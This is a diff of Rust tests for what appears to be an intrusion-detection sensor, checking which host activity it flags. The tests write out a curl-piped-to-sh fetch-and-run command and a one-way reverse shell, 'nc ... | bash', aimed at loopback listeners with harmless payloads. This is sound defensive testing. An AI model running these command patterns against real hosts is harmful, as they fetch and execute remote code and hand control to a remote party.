@@ -69,6 +69,31 @@ fn an_unknown_drill_is_named_and_the_list_is_pointed_to() {
     );
 }
 
+/// A script fetched and piped to a shell, as installers ask people to: no alarm.
+fn fetch_and_run() {
+    let curl = Path::new("/usr/bin/curl");
+    if !curl.exists() {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut fetch = Command::new("/bin/sh")
+        .arg("-c")
+        .arg(format!(
+            "curl -s http://127.0.0.1:{port}/install | sh >/dev/null"
+        ))
+        .spawn()
+        .unwrap();
+    let (mut served, _) = listener.accept().unwrap();
+    let mut request = [0; 1_024];
+    let _ = served.read(&mut request).unwrap();
+    served
+        .write_all(b"HTTP/1.0 200 OK\r\n\r\ntrue; echo installed\n")
+        .unwrap();
+    drop(served);
+    fetch.wait().unwrap();
+}
+
 /// What happens on healthy hosts; ends with something that must be seen, so that silence before
 /// it means something.
 #[test]
@@ -82,20 +107,7 @@ fn what_healthy_hosts_do_raises_no_alarm() {
         .with(["--events", "alert"])
         .start()
         .unwrap();
-    // A script fetched and piped to a shell: one way only.
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let mut fetch = Command::new(bash)
-        .arg("-c")
-        .arg(format!(
-            "exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 | sh >/dev/null"
-        ))
-        .spawn()
-        .unwrap();
-    let (mut served, _) = listener.accept().unwrap();
-    served.write_all(b"true; echo installed\n").unwrap();
-    drop(served);
-    fetch.wait().unwrap();
+    fetch_and_run();
     // A server that runs a script for each connection, with the connection as its streams.
     let server = TcpListener::bind("127.0.0.1:0").unwrap();
     let mut client = TcpStream::connect(server.local_addr().unwrap()).unwrap();
@@ -145,8 +157,41 @@ fn what_healthy_hosts_do_raises_no_alarm() {
     let alerts: Vec<_> = finished
         .events
         .iter()
-        .filter(|event| text(event, "event.kind") == "alert")
+        .filter(|event| ["high", "critical"].contains(&text(event, "sensor.alert.severity")))
         .map(|event| text(event, "message"))
         .collect();
     assert_eq!(alerts.len(), 1, "{alerts:#?}");
+}
+
+#[test]
+fn a_shell_that_obeys_and_does_not_answer_is_seen() {
+    let (bash, nc) = (Path::new("/bin/bash"), Path::new("/usr/bin/nc"));
+    if !bash.exists() || !nc.exists() {
+        return skip("there is no bash or no nc here");
+    }
+    let mut sensor = Launch::default()
+        .detecting()
+        .with(["--events", "alert"])
+        .start()
+        .unwrap();
+    let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = attacker.local_addr().unwrap().port();
+    let mut blind = Command::new(bash)
+        .arg("-c")
+        .arg(format!(
+            "nc 127.0.0.1 {port} </dev/null | bash >/dev/null 2>&1"
+        ))
+        .spawn()
+        .unwrap();
+    let (mut master, _) = attacker.accept().unwrap();
+    master.write_all(b"true\n").unwrap();
+    let alert = sensor
+        .wait_for(|event| text(event, "rule.id") == "remote-shell.one-way")
+        .unwrap();
+    drop(master);
+    blind.wait().unwrap();
+    assert_eq!(text(&alert, "sensor.alert.severity"), "high");
+    assert_eq!(field(&alert, "destination.port"), port);
+    assert!(text(&alert, "sensor.alert.path").starts_with("127.0.0.1:"));
+    assert!(sensor.stop().unwrap().balances());
 }
